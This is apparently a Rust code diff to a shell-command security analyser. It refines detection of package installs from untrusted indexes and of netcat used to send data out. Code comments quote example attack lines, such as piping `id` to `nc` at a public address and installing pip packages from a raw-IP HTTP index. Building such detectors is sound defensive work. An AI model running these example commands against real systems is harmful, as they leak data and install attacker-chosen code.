@@ -1482,6 +1482,17 @@ fn feeders<'p>(cmds: &'p [Cmd], c: &Cmd) -> Vec<&'p Cmd> {
     out
 }
 
+/// Whether a host name is local or internal (`localhost`, a single label,
+/// `.internal`, `.local`, `.lan`, `.corp`, `.svc`, `.consul`).
+fn internal_host(host: &str) -> bool {
+    let h = host.to_ascii_lowercase();
+    !h.contains('.')
+        || h == "localhost"
+        || [".internal", ".local", ".lan", ".corp", ".svc", ".consul", ".localdomain", ".intranet", ".home.arpa", ".cluster.local"]
+            .iter()
+            .any(|s| h.ends_with(s))
+}
+
 /// The first URL-ish argument of a downloader.
 fn url_of(c: &Cmd) -> Option<String> {
     c.arg_texts().find(|t| t.contains("://") || (!t.starts_with('-') && t.contains('.') && t.contains('/'))).map(str::to_owned)
@@ -2165,16 +2176,36 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
         // Packages from an index at a raw address or over plain HTTP
         // (`pip install x --index-url http://141.183.36.74:8080/simple`):
         // whoever runs it chooses the code that is installed and run.
-        if matches!(n.as_str(), "pip" | "pip3" | "npm" | "pnpm" | "yarn" | "uv" | "poetry" | "gem")
+        // (`python3 -m pip install`, `PIP_INDEX_URL=... pip install`, `-ihttp://...`,
+        // a package given as a URL; a local or internal index is a mirror.)
+        let pip_module = is_interp(&n) && args.windows(2).any(|w| w[0] == "-m" && matches!(w[1], "pip" | "pip3"));
+        if (matches!(n.as_str(), "pip" | "pip3" | "npm" | "pnpm" | "yarn" | "uv" | "poetry" | "gem") || pip_module)
             && args.iter().any(|a| matches!(*a, "install" | "add" | "i"))
         {
+            let untrusted = |u: &str| {
+                let host = u.split("://").nth(1).unwrap_or(u).split(['/', ':', '?', '@']).next().unwrap_or("");
+                let local = host.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| ip.is_loopback() || ip.is_private() || ip.is_link_local())
+                    || internal_host(host);
+                u.contains("://") && !local && url_risk(Some(u)) == Confidence::High
+            };
+            let env_index = c.assigns.iter().filter_map(|a| a.split_once('=')).any(|(k, v)| {
+                matches!(k.to_ascii_uppercase().as_str(), "PIP_INDEX_URL" | "PIP_EXTRA_INDEX_URL" | "NPM_CONFIG_REGISTRY" | "UV_INDEX_URL")
+                    && untrusted(v.trim_matches(['"', '\'']))
+            });
+            if env_index {
+                out.push(Confidence::High, "shell.untrusted-package-source", at);
+            }
             let mut prev = "";
             for a in &args {
-                let inline = ["--index-url=", "--extra-index-url=", "--registry=", "--source="].iter().find_map(|p| a.strip_prefix(p));
-                let url =
-                    if matches!(prev, "--index-url" | "--extra-index-url" | "-i" | "--registry" | "--source") { Some(*a) } else { inline };
+                let inline =
+                    ["--index-url=", "--extra-index-url=", "--registry=", "--source=", "-i"].iter().find_map(|p| a.strip_prefix(p));
+                let url = if matches!(prev, "--index-url" | "--extra-index-url" | "-i" | "--registry" | "--source") || a.contains("://") {
+                    Some(*a)
+                } else {
+                    inline
+                };
                 if let Some(u) = url
-                    && url_risk(Some(u)) == Confidence::High
+                    && untrusted(u)
                 {
                     out.push(Confidence::High, "shell.untrusted-package-source", at);
                     break;
@@ -2185,16 +2216,41 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
         // A raw TCP client fed with data (`id | nc 198.51.100.4 4444`,
         // `nc host 4444 < /tmp/o`): whatever it reads goes to the host.
         // (Not listening, not a port scan.)
-        if matches!(n.as_str(), "nc" | "ncat" | "netcat")
-            && !args.iter().any(|a| a.starts_with('-') && (a.contains('l') || a.contains('z')))
-            && (!feeds.is_empty() || c.redirs.iter().any(|(op, _)| *op == "<"))
-            && let Some(host) = args.iter().find(|a| !a.starts_with('-'))
-        {
-            // A public address is someone's listener; a name or a local
-            // address is as often a health check (`echo ping | nc -w1 localhost 6379`).
-            let ip = host.parse::<std::net::Ipv4Addr>().ok();
-            let public = ip.is_some_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified()));
-            out.push(if public { Confidence::High } else { Confidence::Low }, "shell.exfiltration", at);
+        // (Not listening, not a port scan; a constant probe (`echo ruok |`,
+        // `</dev/null`) is a health check, not data.)
+        let listens = args.iter().any(|a| {
+            matches!(*a, "--listen" | "--zero-io") || a.starts_with('-') && !a.starts_with("--") && (a.contains('l') || a.contains('z'))
+        });
+        let constant_feed = !feeds.is_empty()
+            && feeds.iter().all(|f| matches!(f.name(), "echo" | "printf") && !f.arg_texts().any(|t| t.contains(['$', '`'])));
+        let data_in = !feeds.is_empty() && !constant_feed || c.redirs.iter().any(|(op, t)| *op == "<" && *t != "/dev/null");
+        if matches!(n.as_str(), "nc" | "ncat" | "netcat") && !listens && data_in {
+            // The host: the first word that is no option nor an option's value.
+            const VALUED: &[&str] =
+                &["-w", "-q", "-p", "-s", "-i", "-x", "-X", "-e", "-c", "-W", "-T", "--wait", "--source", "--proxy", "--exec", "--sh-exec"];
+            let mut host = None;
+            let mut skip = false;
+            for a in &args {
+                if skip {
+                    skip = false;
+                } else if VALUED.contains(a) {
+                    skip = true;
+                } else if !a.starts_with('-') {
+                    host = Some(*a);
+                    break;
+                }
+            }
+            if let Some(host) = host {
+                // A public address or name is someone's listener; a local
+                // one is as often a health check (`nc -w1 localhost 6379`).
+                let conf = match host.parse::<std::net::Ipv4Addr>() {
+                    Ok(ip) if !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified()) => Confidence::High,
+                    Ok(_) => Confidence::Low,
+                    Err(_) if internal_host(host) => Confidence::Low,
+                    Err(_) => Confidence::Medium,
+                };
+                out.push(conf, "shell.exfiltration", at);
+            }
         }
         // Exfiltration: data arguments, pipelines, input redirections.
         if matches!(n.as_str(), "curl" | "wget") {
